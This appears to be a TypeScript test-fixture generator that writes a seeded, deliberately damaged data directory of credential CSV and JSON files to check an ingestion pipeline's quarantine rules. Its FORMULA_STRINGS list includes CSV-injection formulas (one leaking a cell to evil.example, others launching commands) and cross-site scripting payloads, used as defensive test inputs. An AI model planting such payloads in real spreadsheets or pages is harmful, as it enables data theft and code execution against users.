// A fuzzed data directory for the ingestion pipelines: issuance CSV files derived from valid rows
// and then damaged (random bytes, truncation, wrong encodings, megabyte fields, formula and script
// text, wrong field counts, NUL bytes, odd line ends), junk credentials, and random-byte files in
// catalogue/ and providers/. Every byte comes from a seeded generator, so a seed fixes the data.
// Alongside the files it returns what is known about them without the pipeline's reader: how
// many records each holds and how many of them must be quarantined, and for which rule.

import { hashString, Rng } from '../../generator/prng';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ISSUANCE_COLUMNS } from '../../core/contract/issuance-record';
import {
	AGE_BANDS,
	ASSESSMENT_TYPES,
	DEGREES_OF_URBANISATION,
	DIGITAL_FORMATS,
	EDUCATION_LEVELS,
	FUNDING_SOURCES,
	ISCED_FIELDS,
	LABOUR_STATUSES,
	LEARNING_SETTINGS,
	PARTICIPATION_FORMS,
	PROVIDER_TYPES,
	QUALITY_ASSURANCE_TYPES,
	STACKABILITY_OPTIONS,
	SUPERVISION_TYPES
} from '../../core/contract/vocabularies';

// ---------------------------------------------------------------------------------------------
// Seeded randomness (cyrb128 seed, sfc32 stream); Math.random is never used.

export class FuzzRng {
	readonly #rng: Rng;

	constructor(seed: string) {
		const [a, b, c, d] = hashString(seed);
		this.#rng = new Rng(a, b, c, d, 16);
	}

	/** Unsigned 32-bit integer. */
	next(): number {
		return this.#rng.next();
	}

	/** Integer in [min, max]. */
	int(min: number, max: number): number {
		return this.#rng.range(min, max);
	}

	chance(p: number): boolean {
		return this.#rng.chance(p);
	}

	pick<T>(items: readonly T[]): T {
		return this.#rng.pick(items);
	}

	bytes(n: number): Buffer {
		const out = Buffer.alloc(n);
		for (let i = 0; i < n; i++) out[i] = this.next() & 0xff;
		return out;
	}
}

// ---------------------------------------------------------------------------------------------
// Valid rows

export const ISSUANCE_HEADER: readonly string[] = ISSUANCE_COLUMNS.map((c) => c.name);

/** Text columns (kind 'text'): where formula and script strings go. */
const TEXT_COLUMNS = [
	'title',
	'awarding_body',
	'learning_outcomes',
	'prerequisites',
	'grade',
	'stackable_towards',
	'further_information'
] as const;

/** Strings a spreadsheet would run or a browser would execute; each is text.suspicious. */
export const FORMULA_STRINGS: readonly string[] = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'=1+1',
	' =SUM(A1:A9)',
	'<script>alert(document.cookie)</script>',
	'<img src=x onerror=alert(1)>',
	'Intro <svg/onload=alert(1)>',
	'javascript:alert(1)'
];

const TITLES = [
	'Data literacy, level 1',
	'Heat pump installation',
	'Inclusive teaching: practice',
	'Cybersecurity basics',
	'Soil health for farmers',
	'Compétences numériques',
	'Grundlagen der Pflege'
];
const BODIES = [
	'Université de Lyon',
	'Technische Universität München',
	'Politecnico di Milano',
	'Uniwersytet Łódzki',
	'Åbo Akademi',
	'Universidad de Salamanca'
];
const OUTCOMES = [
	'Explain the basics; apply them, with "care"',
	'Install and commission a heat pump',
	'Design an inclusive lesson, assess it and adapt it',
	'Identify threats; respond to incidents'
];
const COUNTRIES = ['FR', 'DE', 'IT', 'PL', 'FI', 'ES', 'AT', 'BE', 'NL', 'SE'];
const YES_NO = ['yes', 'no'];
const YES_NO_UNKNOWN = ['yes', 'no', 'unknown'];

const pad = (n: number, width: number) => String(n).padStart(width, '0');

/** A learner identifier no pipeline output may ever contain. */
export function learnerId(n: number): string {
	return `FUZZ-L-${pad(n, 6)}`;
}

type Row = Record<string, string>;

class RowFactory {
	#next = 100_000;
	readonly learnerIds = new Set<string>();

	constructor(private readonly rng: FuzzRng) {}

	/** A row that validates without any issue; credential ids are unique per tag and index. */
	row(tag: string, index: number): Row {
		const rng = this.rng;
		const id = learnerId(this.#next++);
		this.learnerIds.add(id);
		const ects = rng.int(1, 10);
		const hours = ects * rng.pick([25, 27, 30]);
		return {
			learner_id: id,
			title: `${rng.pick(TITLES)} (${tag} ${index})`,
			issuer_country: rng.pick(COUNTRIES),
			issuer_region: '',
			awarding_body: rng.pick(BODIES),
			awarding_body_id: '',
			issue_date: `${rng.int(2019, 2025)}-${pad(rng.int(1, 12), 2)}-${pad(rng.int(1, 28), 2)}`,
			learning_outcomes: rng.pick(OUTCOMES),
			ects: String(ects),
			workload_hours: String(hours),
			eqf_level: String(rng.int(3, 7)),
			qf_ehea_cycle: '',
			assessment_type: rng.pick(ASSESSMENT_TYPES),
			participation_form: rng.pick(PARTICIPATION_FORMS),
			quality_assurance: rng.pick(QUALITY_ASSURANCE_TYPES),
			prerequisites: '',
			supervision: rng.pick(SUPERVISION_TYPES),
			grade: rng.pick(['pass', 'merit', '15/20', 'A']),
			stackability: rng.pick(STACKABILITY_OPTIONS),
			stackable_towards: '',
			further_information: '',
			credential_id: `FUZZ-C-${tag}-${pad(index, 5)}`,
			provider_id: `FUZZ-P-${rng.int(1, 40)}`,
			provider_type: rng.pick(PROVIDER_TYPES),
			learning_setting: rng.pick(LEARNING_SETTINGS),
			field: rng.pick(ISCED_FIELDS),
			topic: rng.pick(['digital', 'green', 'digital;green', '']),
			digital_format: rng.pick(DIGITAL_FORMATS),
			sealed: rng.pick(YES_NO),
			funding: rng.pick(FUNDING_SOURCES),
			in_nqf: rng.pick(YES_NO),
			age_band: rng.pick(AGE_BANDS),
			sex: rng.pick(['F', 'M', 'X', 'unknown']),
			education_level: rng.pick(EDUCATION_LEVELS),
			labour_status: rng.pick(LABOUR_STATUSES),
			disability: rng.pick(YES_NO_UNKNOWN),
			migrant_background: rng.pick(YES_NO_UNKNOWN),
			refugee: rng.pick(YES_NO_UNKNOWN),
			degree_of_urbanisation: rng.pick(DEGREES_OF_URBANISATION),
			minimum_income: rng.pick(YES_NO_UNKNOWN),
			platform_worker: rng.pick(YES_NO_UNKNOWN)
		};
	}

	rows(tag: string, n: number): Row[] {
		return Array.from({ length: n }, (_, i) => this.row(tag, i));
	}
}

// ---------------------------------------------------------------------------------------------
// Serialising

/** RFC 4180 field, quoted when needed. No formula escaping: these are inputs, not exports. */
function field(value: string): string {
	return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

function line(values: readonly string[]): string {
	return values.map(field).join(',');
}

function rowLine(row: Row): string {
	return line(ISSUANCE_HEADER.map((name) => row[name] ?? ''));
}

function csvText(rows: readonly Row[], eol = '\n'): string {
	return [line(ISSUANCE_HEADER), ...rows.map(rowLine)].map((l) => l + eol).join('');
}

// Windows-1252 bytes for the characters this file uses outside Latin-1.
const CP1252_EXTRA: Readonly<Record<string, number>> = { '€': 0x80, '–': 0x96, '’': 0x92 };

function cp1252(text: string): Buffer {
	const out = Buffer.alloc(text.length);
	for (let i = 0; i < text.length; i++) {
		const c = text.charCodeAt(i);
		const extra = CP1252_EXTRA[text[i]];
		if (extra === undefined && c > 0xff) throw new Error(`not in windows-1252: ${text[i]}`);
		out[i] = extra ?? c;
	}
	return out;
}

/** Replaces the first occurrence of `marker` in a line's UTF-8 bytes with `bytes`. */
function splice(lineBytes: Buffer, marker: string, bytes: Buffer): Buffer {
	const at = lineBytes.indexOf(marker, 0, 'utf8');
	if (at < 0) throw new Error('marker not found');
	const end = at + Buffer.byteLength(marker);
	return Buffer.concat([lineBytes.subarray(0, at), bytes, lineBytes.subarray(end)]);
}

// ---------------------------------------------------------------------------------------------
// The dataset

/** What is known about one input file without reading it through the pipeline. */
export interface FuzzExpectation {
	/** Records (CSV) or credentials (JSON) in the file. */
	readonly read?: number;
	readonly accepted?: number;
	readonly quarantined?: number;
	/** Exact counts in the run report's issuesByRule. */
	readonly rules?: Readonly<Record<string, number>>;
	/** Lines of accepted rows with formula or script text. */
	readonly suspiciousLines?: readonly number[];
}

export interface FuzzDataset {
	readonly dataDir: string;
	/** Every input file written, by its name in the run report ('issuance/00-clean.csv'). */
	readonly files: ReadonlyMap<string, FuzzExpectation>;
	/** Every learner identifier written, in any file. */
	readonly learnerIds: ReadonlySet<string>;
}

const MARK = '\uE000';
const SAMPLE_BYTES = 1 << 16; // what the CSV reader examines to detect the encoding

export function createFuzzDataset(seed = 'fuzz-ingest'): FuzzDataset {
	const rng = new FuzzRng(seed);
	const make = new RowFactory(rng);
	const dataDir = join(mkdtempSync(join(tmpdir(), 'uptake-fuzz-')), 'data');
	for (const folder of ['issuance', 'credentials', 'catalogue', 'providers']) {
		mkdirSync(join(dataDir, folder), { recursive: true });
	}
	const files = new Map<string, FuzzExpectation>();
	const write = (name: string, data: string | Buffer, expect: FuzzExpectation = {}) => {
		writeFileSync(join(dataDir, name), data);
		files.set(name, expect);
	};

	// A clean baseline: nothing to report.
	{
		const rows = make.rows('clean', 300);
		write('issuance/00-clean.csv', csvText(rows), {
			read: 300,
			accepted: 300,
			quarantined: 0,
			rules: {}
		});
	}

	// Random bytes (any value: quotes, commas, line breaks, NUL, invalid UTF-8) inside some rows.
	{
		const rows = make.rows('garbage', 300);
		const parts: Buffer[] = [Buffer.from(`${line(ISSUANCE_HEADER)}\n`)];
		for (const row of rows) {
			let bytes: Buffer = Buffer.from(`${rowLine(row)}\n`);
			if (rng.chance(0.12)) {
				const at = rng.int(1, bytes.length - 2);
				const junk = rng.bytes(rng.int(1, 64));
				bytes = Buffer.concat([bytes.subarray(0, at), junk, bytes.subarray(at)]);
			}
			parts.push(bytes);
		}
		write('issuance/01-garbage-rows.csv', Buffer.concat(parts));
	}

	// High bytes that are invalid UTF-8, only past the encoding sample: the file is read as UTF-8
	// and exactly the damaged rows carry U+FFFD.
	{
		const rows = make.rows('late-bytes', 400);
		const parts: Buffer[] = [Buffer.from(`${line(ISSUANCE_HEADER)}\n`)];
		let size = parts[0].length;
		let damaged = 0;
		for (const row of rows) {
			const late = size > SAMPLE_BYTES + 4096 && rng.chance(0.1);
			if (late) row.title = `Bro${MARK}ken ${row.title}`;
			let bytes: Buffer = Buffer.from(`${rowLine(row)}\n`);
			if (late) {
				const junk = Buffer.from([0xff, ...rng.bytes(rng.int(0, 12)).map((b) => 0x80 | b)]);
				bytes = splice(bytes, MARK, junk);
				damaged++;
			}
			parts.push(bytes);
			size += bytes.length;
		}
		if (damaged < 5) throw new Error('too few damaged rows; change the seed');
		write('issuance/02-invalid-utf8-late.csv', Buffer.concat(parts), {
			read: 400,
			accepted: 400 - damaged,
			quarantined: damaged,
			rules: { 'encoding.invalid': damaged }
		});
	}

	// Truncated inside a quoted field of row 201: 200 whole records, then an unterminated quote.
	{
		const rows = make.rows('truncated', 300);
		rows[200].title = 'Truncated, in the middle of this quoted title';
		const text = csvText(rows);
		const start = text.indexOf('"Truncated, in the');
		write('issuance/03-truncated-quote.csv', text.slice(0, start + 12), {
			read: 201,
			accepted: 200,
			quarantined: 1,
			rules: { 'csv.unterminated_quote': 1 }
		});
	}

	// Windows-1252 rows in a UTF-8 file. Early: the sample is not UTF-8, the file is read as
	// windows-1252 (UTF-8 text turns to mojibake, nothing is lost). Late: read as UTF-8, the
	// windows-1252 rows carry U+FFFD.
	const cp1252Rows = (tag: string, late: boolean) => {
		const rows = make.rows(tag, 400);
		const parts: Buffer[] = [Buffer.from(`${line(ISSUANCE_HEADER)}\n`)];
		let size = parts[0].length;
		let legacy = 0;
		rows.forEach((row, i) => {
			const pastSample = size > SAMPLE_BYTES + 4096;
			const isLegacy = late ? pastSample && rng.chance(0.1) : i === 3 || i % 50 === 7;
			let bytes: Buffer;
			if (isLegacy) {
				row.title = `Compétences – l’atelier à 20 € (${tag} ${i})`;
				row.awarding_body = rng.pick(['Université de Lyon', 'Åbo Akademi', 'Fachhochschule Köln']);
				bytes = cp1252(`${rowLine(row)}\r\n`);
				legacy++;
			} else bytes = Buffer.from(`${rowLine(row)}\r\n`);
			parts.push(bytes);
			size += bytes.length;
		});
		return { data: Buffer.concat(parts), legacy };
	};
	{
		const { data } = cp1252Rows('cp1252-early', false);
		write('issuance/04-cp1252-early.csv', data, { read: 400 });
	}
	{
		const { data, legacy } = cp1252Rows('cp1252-late', true);
		if (legacy < 5) throw new Error('too few windows-1252 rows; change the seed');
		write('issuance/05-cp1252-late.csv', data, {
			read: 400,
			accepted: 400 - legacy,
			quarantined: legacy,
			rules: { 'encoding.invalid': legacy }
		});
	}

	// UTF-16 without a byte order mark: read as single-byte text full of NULs, so the header is
	// malformed and every record is quarantined. In UTF-16LE the last line feed is followed by
	// its NUL byte, which is one more (one-field) record, and the first line, in which no column
	// of the contract can be recognised, counts as a quarantined record too.
	{
		const rows = make.rows('utf16le', 120);
		write('issuance/06-utf16le-no-bom.csv', Buffer.from(csvText(rows), 'utf16le'), {
			read: 122,
			accepted: 0,
			quarantined: 122
		});
	}
	{
		const rows = make.rows('utf16be', 120);
		const data = Buffer.from(csvText(rows), 'utf16le').swap16();
		write('issuance/07-utf16be-no-bom.csv', data, { read: 121, accepted: 0, quarantined: 121 });
	}

	// Megabyte fields: 1 000 000 characters is the reader's limit (the validator's is 10 000),
	// one more or 1 MiB makes the row malformed; a 1 MiB quoted field also holds line breaks,
	// commas and doubled quotes, and the rows after it must still be read.
	{
		const rows = make.rows('long', 40);
		rows[10].title = 'x'.repeat(1_000_000);
		rows[12].title = 'y'.repeat(1_000_001);
		rows[14].learning_outcomes = 'é'.repeat(1_000_000);
		rows[16].further_information = 'z'.repeat(10_001);
		const chunk = 'line, "quoted"\r\nnext line\n';
		rows[18].learning_outcomes = chunk
			.repeat(Math.ceil((1 << 20) / chunk.length))
			.slice(0, 1 << 20);
		rows[20].grade = 'w'.repeat(1 << 20);
		write('issuance/08-long-fields.csv', csvText(rows), {
			read: 40,
			accepted: 34,
			quarantined: 6,
			rules: { 'field.too_long': 3, 'csv.field_too_long': 3 }
		});
	}

	// Formula and script strings in text fields. Most of these rows are otherwise valid and
	// accepted with a warning; some also have an unknown country and are quarantined.
	{
		const rows = make.rows('formula', 300);
		let suspicious = 0;
		let quarantined = 0;
		const suspiciousLines: number[] = [];
		rows.forEach((row, i) => {
			if (i % 6 !== 1) return;
			const columns = new Set([rng.pick(TEXT_COLUMNS), rng.pick(TEXT_COLUMNS)]);
			for (const column of columns) row[column] = rng.pick(FORMULA_STRINGS);
			suspicious += columns.size;
			if (i % 24 === 7) {
				row.issuer_country = 'ZZ';
				quarantined++;
			} else suspiciousLines.push(i + 2);
		});
		write('issuance/09-formula-script.csv', csvText(rows), {
			read: 300,
			accepted: 300 - quarantined,
			quarantined,
			rules: { 'text.suspicious': suspicious, 'country.unknown': quarantined },
			suspiciousLines
		});
	}

	// Wrong field counts: one more, one fewer, a lone comma, 500 fields, a line of spaces.
	{
		const rows = make.rows('fields', 200);
		const lines = [line(ISSUANCE_HEADER), ...rows.map(rowLine)];
		const bad = [11, 31, 51, 71, 91, 111, 131];
		lines[bad[0]] += ',extra';
		lines[bad[1]] = lines[bad[1]].slice(0, lines[bad[1]].lastIndexOf(','));
		lines[bad[2]] = ',';
		lines[bad[3]] = Array.from({ length: 500 }, (_, k) => `f${k}`).join(',');
		lines[bad[4]] = '   ';
		lines[bad[5]] += ',,,,,';
		lines[bad[6]] = lines[bad[6]].replaceAll(',', ';');
		write('issuance/10-field-counts.csv', lines.map((l) => `${l}\n`).join(''), {
			read: 200,
			accepted: 200 - bad.length,
			quarantined: bad.length,
			rules: { 'csv.field_count': bad.length }
		});
	}

	// NUL bytes in unquoted and quoted fields, and in the learner identifier.
	{
		const rows = make.rows('nul', 200);
		const bad = [5, 25, 45, 65, 85, 105, 125, 145, 165, 185];
		bad.forEach((i, k) => {
			const column = k % 3 === 0 ? 'learner_id' : k % 3 === 1 ? 'title' : 'learning_outcomes';
			const value = rows[i][column];
			rows[i][column] = `${value.slice(0, 4)}\0${value.slice(4)}`;
		});
		write('issuance/11-nul-bytes.csv', csvText(rows), {
			read: 200,
			accepted: 200 - bad.length,
			quarantined: bad.length,
			rules: { 'csv.nul_byte': bad.length }
		});
	}

	// Lone CR line ends; then every kind of line end mixed, with blank lines between records.
	{
		const rows = make.rows('cr', 200);
		write('issuance/12-lone-cr.csv', csvText(rows, '\r'), {
			read: 200,
			accepted: 200,
			quarantined: 0,
			rules: {}
		});
	}
	{
		const rows = make.rows('mixed-eol', 200);
		const ends = ['\n', '\r\n', '\r'];
		let text = `${line(ISSUANCE_HEADER)}\r\n`;
		for (const row of rows) {
			text += rowLine(row) + rng.pick(ends);
			if (rng.chance(0.1)) text += rng.pick(ends) + rng.pick(['', '\n', '\r\n']);
		}
		write('issuance/13-mixed-eol.csv', text, {
			read: 200,
			accepted: 200,
			quarantined: 0,
			rules: {}
		});
	}

	write('issuance/14-header-only.csv', `${line(ISSUANCE_HEADER)}\r\n`, {
		read: 0,
		accepted: 0,
		quarantined: 0
	});
	write('issuance/15-empty.csv', '', { read: 0, accepted: 0, quarantined: 0 });
	write('issuance/16-random-bytes.csv', rng.bytes(256 * 1024));

	// A NUL byte in the header: the file's header is malformed, so every record is quarantined.
	{
		const rows = make.rows('bad-header', 100);
		const text = csvText(rows).replace('learner_id', 'learner\0_id');
		write('issuance/17-nul-in-header.csv', text, {
			read: 100,
			accepted: 0,
			quarantined: 100,
			rules: { 'csv.nul_byte': 100 }
		});
	}

	// The same credential twice (credential_id and awarding_body): kept once.
	{
		const rows = make.rows('duplicates', 100);
		for (let k = 0; k < 10; k++) {
			rows[90 + k].credential_id = rows[k].credential_id;
			rows[90 + k].awarding_body = rows[k].awarding_body;
		}
		write('issuance/18-duplicates.csv', csvText(rows), {
			read: 100,
			accepted: 90,
			quarantined: 10,
			rules: { 'credential.duplicate': 10 }
		});
	}

	// Credentials: a file that is not JSON, and a large array of junk with some credentials in it.
	{
		const id = learnerId(999_999);
		make.learnerIds.add(id);
		const start =
			'[{"@context":["https://www.w3.org/ns/credentials/v2"],' +
			`"type":["VerifiableCredential","OpenBadgeCredential"],"credentialSubject":{"id":"${id}",`;
		write('credentials/invalid.json', Buffer.concat([Buffer.from(start), rng.bytes(2000)]), {
			read: 1,
			accepted: 0,
			quarantined: 1,
			rules: { 'credential.invalid_json': 1 }
		});
	}
	{
		const items: unknown[] = [];
		let credentials = 0;
		for (let i = 0; i < 20_000; i++) {
			const r = rng.next() % 10;
			if (r < 7) items.push(junkValue(rng, 3));
			else if (r === 7) items.push(rng.pick(['eyJhbGciOi.broken', 'eyJ.x.y', junkString(rng)]));
			else {
				const row = make.row('credential', i);
				items.push(ob3Credential(rng, row));
				credentials++;
			}
		}
		if (credentials < 100) throw new Error('too few credentials; change the seed');
		write('credentials/junk-array.json', JSON.stringify(items), { read: items.length });
	}

	// Random bytes where catalogue and provider tables are expected.
	for (const folder of ['catalogue', 'providers']) {
		write(`${folder}/random-large.csv`, rng.bytes(96 * 1024));
		write(`${folder}/random-small.csv`, rng.bytes(700));
		// Random bytes biased towards delimiters and line ends: many short records.
		const dense = rng.bytes(32 * 1024).map((b) => (b < 40 ? 0x2c : b < 60 ? 0x0a : b));
		write(`${folder}/random-dense.csv`, Buffer.from(dense));
	}

	return { dataDir, files, learnerIds: make.learnerIds };
}

// ---------------------------------------------------------------------------------------------
// JSON junk

function junkString(rng: FuzzRng): string {
	const r = rng.next() % 4;
	if (r === 0) return rng.pick(FORMULA_STRINGS);
	if (r === 1) return rng.bytes(rng.int(0, 24)).toString('latin1');
	if (r === 2)
		return String.fromCharCode(...Array.from({ length: rng.int(0, 8) }, () => rng.int(0, 0xd7ff)));
	return 'x'.repeat(rng.int(0, 40));
}

const JUNK_KEYS = [
	'type',
	'id',
	'@context',
	'credentialSubject',
	'issuer',
	'name',
	'recipient',
	'badge',
	'proof',
	'vc',
	'jwt',
	'a',
	''
];

function junkValue(rng: FuzzRng, depth: number): unknown {
	const r = rng.next() % (depth > 0 ? 8 : 5);
	switch (r) {
		case 0:
			return null;
		case 1:
			return rng.chance(0.5);
		case 2:
			return (rng.next() - 0x8000_0000) / rng.int(1, 1000);
		case 3:
		case 4:
			return junkString(rng);
		case 5:
			return Array.from({ length: rng.int(0, 4) }, () => junkValue(rng, depth - 1));
		default: {
			const o: Record<string, unknown> = {};
			const n = rng.int(0, 5);
			for (let k = 0; k < n; k++) o[rng.pick(JUNK_KEYS)] = junkValue(rng, depth - 1);
			return o;
		}
	}
}

/** An Open Badges 3.0 credential from a row, sometimes with a formula or an unknown country. */
function ob3Credential(rng: FuzzRng, row: Row): Record<string, unknown> {
	const name = rng.chance(0.2) ? rng.pick(FORMULA_STRINGS) : row.title;
	const country = rng.chance(0.2) ? 'ZZ' : row.issuer_country;
	return {
		'@context': [
			'https://www.w3.org/ns/credentials/v2',
			'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json'
		],
		id: `urn:fuzz:${row.credential_id}`,
		type: ['VerifiableCredential', 'OpenBadgeCredential'],
		name,
		issuer: {
			id: `https://example.org/issuers/${row.provider_id}`,
			type: ['Profile'],
			name: row.awarding_body,
			address: { type: ['Address'], addressCountryCode: country }
		},
		awardedDate: `${row.issue_date}T00:00:00Z`,
		credentialSubject: {
			type: ['AchievementSubject'],
			id: row.learner_id,
			achievement: {
				type: ['Achievement'],
				name,
				description: rng.chance(0.5) ? junkValue(rng, 1) : row.learning_outcomes
			}
		}
	};
}
